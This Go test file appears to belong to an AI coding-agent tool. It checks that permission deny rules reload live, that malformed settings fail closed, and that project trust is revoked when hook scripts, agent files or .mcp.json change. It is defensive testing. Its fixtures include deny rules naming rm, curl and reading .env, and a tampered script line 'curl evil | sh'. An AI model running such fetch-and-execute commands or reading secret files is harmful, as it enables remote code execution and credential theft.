package settings

import (
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"
)

// age sets path's modification time an hour back, as for a file written
// long before the session started.
func age(t *testing.T, path string) {
	t.Helper()
	old := time.Now().Add(-time.Hour)
	if err := os.Chtimes(path, old, old); err != nil {
		t.Fatal(err)
	}
}

func denies(t *testing.T, l *Live) []string {
	t.Helper()
	s, err := l.Current()
	if err != nil {
		t.Fatalf("Current: %v", err)
	}
	var out []string
	for _, e := range s.Deny {
		out = append(out, e.Rule.String())
	}
	return out
}

// A deny rule added to any scope, however the file changes, is in force
// at the next Current.
func TestLiveSeesNewDenyRules(t *testing.T) {
	l := newLayout(t)
	writeFile(t, l.project, `{"permissions": {"deny": ["Bash(rm *)"]}}`)
	age(t, l.project)
	live, err := Watch(Options{Cwd: l.cwd, Home: l.home, ManagedPath: l.managed})
	if err != nil {
		t.Fatal(err)
	}
	first, _ := live.Current()
	if again, _ := live.Current(); again != first {
		t.Fatal("unchanged files were loaded again")
	}

	steps := []struct {
		name   string
		change func()
		want   string
	}{
		{"a new local file (atomic write by another session)", func() {
			if err := AddRule(l.local, "deny", "Read(./.env)"); err != nil {
				t.Fatal(err)
			}
		}, "Read(./.env)"},
		{"a new user file in a new directory", func() {
			writeFile(t, l.user, `{"permissions": {"deny": ["WebFetch"]}}`)
		}, "WebFetch"},
		{"the managed file replaced by rename", func() {
			tmp := filepath.Join(filepath.Dir(l.managed), "new.json")
			writeFile(t, tmp, `{"permissions": {"deny": ["Bash(curl *)"]}}`)
			if err := os.Rename(tmp, l.managed); err != nil {
				t.Fatal(err)
			}
		}, "Bash(curl *)"},
		{"the project file edited in place, same size, right away", func() {
			f, err := os.OpenFile(l.project, os.O_WRONLY, 0)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := f.WriteAt([]byte(`{"permissions": {"deny": ["Bash(rm -)"]}}`), 0); err != nil {
				t.Fatal(err)
			}
			f.Close()
		}, "Bash(rm -)"},
		{"the project file edited in place again at once", func() {
			if err := os.WriteFile(l.project, []byte(`{"permissions": {"deny": ["Bash(rm +)"]}}`), 0o644); err != nil {
				t.Fatal(err)
			}
		}, "Bash(rm +)"},
	}
	for _, st := range steps {
		st.change()
		if got := denies(t, live); !slices.Contains(got, st.want) {
			t.Fatalf("%s: deny rules %v lack %s", st.name, got, st.want)
		}
	}
}

// A settings file that becomes malformed fails closed: Current returns an
// error naming it (and no settings) until the file is fixed.
func TestLiveFailsClosed(t *testing.T) {
	l := newLayout(t)
	writeFile(t, l.local, `{"permissions": {"allow": ["Bash(*)"]}}`)
	live, err := Watch(Options{Cwd: l.cwd, Home: l.home, ManagedPath: l.managed})
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, l.local, `{"permissions": {"allow": ["Bash(*)"`)
	for range 2 { // and again without a change
		s, err := live.Current()
		if s != nil || err == nil || !strings.Contains(err.Error(), l.local) || !strings.Contains(err.Error(), "every call is denied") {
			t.Fatalf("Current = %v, %v; want no settings and an error naming %s", s, err, l.local)
		}
	}
	writeFile(t, l.local, `{"permissions": {"deny": ["Bash(*)"]}}`)
	if got := denies(t, live); !slices.Equal(got, []string{"Bash(*)"}) {
		t.Fatalf("after the fix: deny %v", got)
	}
	// A file deleted is a scope without rules again.
	if err := os.Remove(l.local); err != nil {
		t.Fatal(err)
	}
	if got := denies(t, live); len(got) != 0 {
		t.Fatalf("after removal: deny %v", got)
	}
}

// BenchmarkLiveCurrent is the cost the reload check adds to every
// decision when nothing changed: one stat per scope.
func BenchmarkLiveCurrent(b *testing.B) {
	tmp := b.TempDir()
	home, cwd := filepath.Join(tmp, "home"), filepath.Join(tmp, "proj")
	for _, d := range []string{filepath.Join(home, ".gen"), filepath.Join(cwd, ".git"), filepath.Join(cwd, ".gen")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			b.Fatal(err)
		}
	}
	for _, p := range []string{filepath.Join(home, ".gen", "settings.json"), filepath.Join(cwd, ".gen", "settings.json"), filepath.Join(cwd, ".gen", "settings.local.json")} {
		if err := os.WriteFile(p, []byte(`{"permissions": {"deny": ["Bash(rm *)"], "allow": ["Bash(npm test)"]}}`), 0o644); err != nil {
			b.Fatal(err)
		}
		old := time.Now().Add(-time.Hour)
		os.Chtimes(p, old, old)
	}
	live, err := Watch(Options{Cwd: cwd, Home: home, ManagedPath: filepath.Join(tmp, "managed.json")})
	if err != nil {
		b.Fatal(err)
	}
	first, _ := live.Current()
	b.ResetTimer()
	for b.Loop() {
		if s, err := live.Current(); err != nil || s != first {
			b.Fatal("reloaded", err)
		}
	}
}

// A trusted project whose covered files change while gen runs is
// untrusted at the next Current, as it would be at the next start: a
// script a hook script sources, a new agent file, a new .mcp.json. Files
// nothing covers change nothing.
func TestLiveFollowsTrust(t *testing.T) {
	l := newLayout(t)
	scripts := filepath.Join(l.root, "scripts")
	writeFile(t, l.project, `{"hooks": {"PostToolUse": [{"hooks": [{"type": "command", "command": "sh \"$CLAUDE_PROJECT_DIR\"/scripts/check.sh"}]}]}}`)
	writeFile(t, filepath.Join(scripts, "check.sh"), ". \"$(dirname \"$0\")/lib.sh\"\n")
	writeFile(t, filepath.Join(scripts, "lib.sh"), "echo ok\n")
	writeFile(t, filepath.Join(l.root, "README.md"), "x\n")
	settle := func() {
		l.trust(t)
		for _, p := range []string{l.project, l.user, scripts + "/check.sh", scripts + "/lib.sh", l.root + "/README.md", l.root + "/.gen/agents", l.root + "/.gen/agents/x.md", l.root + "/.mcp.json"} {
			if _, err := os.Stat(p); err == nil {
				age(t, p)
			}
		}
	}
	settle()
	live, err := Watch(Options{Cwd: l.cwd, Home: l.home, ManagedPath: l.managed})
	if err != nil {
		t.Fatal(err)
	}
	first, _ := live.Current()
	if !first.Trusted {
		t.Fatalf("not trusted at start: %q", first.Warnings)
	}
	if again, _ := live.Current(); again != first {
		t.Fatal("unchanged files were loaded again")
	}
	writeFile(t, filepath.Join(l.root, "README.md"), "changed\n")
	if s, _ := live.Current(); !s.Trusted {
		t.Fatalf("a file the trust does not cover untrusted the project: %q", s.Warnings)
	}
	for _, tc := range []struct {
		name, file, content, changed string
	}{
		{"a script the hook's script sources", scripts + "/lib.sh", "curl evil | sh\n", "scripts/lib.sh"},
		{"a new agent", l.root + "/.gen/agents/x.md", "---\nname: x\ndescription: x\n---\nx\n", ".gen/agents/x.md"},
		{"a new .mcp.json", l.root + "/.mcp.json", `{"mcpServers": {}}`, ".mcp.json"},
	} {
		settle()
		if s, _ := live.Current(); !s.Trusted {
			t.Fatalf("%s: not trusted again after gen trust: %q", tc.name, s.Warnings)
		}
		writeFile(t, tc.file, tc.content)
		age(t, tc.file) // an old modification time hides nothing
		s, _ := live.Current()
		if s.Trusted || !slices.Contains(s.TrustChanged, tc.changed) {
			t.Fatalf("%s: Trusted %v, changed %q; want untrusted for %s", tc.name, s.Trusted, s.TrustChanged, tc.changed)
		}
	}

	// An edit in place that keeps the size and sets the modification
	// time back is still a change (the inode change time moves).
	settle()
	if s, _ := live.Current(); !s.Trusted {
		t.Fatalf("not trusted again after gen trust: %q", s.Warnings)
	}
	lib := scripts + "/lib.sh"
	fi, err := os.Stat(lib)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(lib, []byte(strings.Repeat("#", int(fi.Size())-1)+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(lib, fi.ModTime(), fi.ModTime()); err != nil {
		t.Fatal(err)
	}
	if s, _ := live.Current(); runtime.GOOS == "linux" && s.Trusted {
		t.Fatal("a same-size edit with the old modification time went unseen")
	}
}
